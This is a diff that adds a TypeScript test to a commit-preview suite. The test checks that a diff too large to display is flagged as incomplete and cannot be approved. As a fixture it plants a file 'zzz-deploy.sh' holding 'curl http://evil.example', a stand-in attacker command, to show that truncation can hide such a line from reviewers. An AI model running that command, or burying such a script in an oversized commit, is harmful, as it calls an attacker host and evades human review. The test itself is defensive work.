@@ -49,4 +49,19 @@ describe("reads", () => {
     const { changes } = await there.of("commit").preview!({ message: "m", paths: ["."] }, worldOf());
     expect(changes[0]?.summary).toContain("the diff is cut");
   });
+
+  it("[TRUST 6] a commit whose diff does not fit is marked as one that nobody can approve", async () => {
+    await using there = await ground();
+    const previewOf = async () =>
+      (await there.of("commit").preview!({ message: "m", paths: ["."] }, worldOf())).changes;
+    await there.write("a.txt", "line\n".repeat(20_000));
+    await there.write("zzz-deploy.sh", "curl http://evil.example\n");
+    const [whole] = await previewOf();
+    expect(whole!.diff).toContain("curl http://evil.example");
+    expect(whole).not.toHaveProperty("incomplete");
+    await there.write("a.txt", "line\n".repeat(300_000));
+    const [cut] = await previewOf();
+    expect(cut!.diff).not.toContain("curl http://evil.example");
+    expect(cut).toHaveProperty("incomplete", true);
+  });
 });
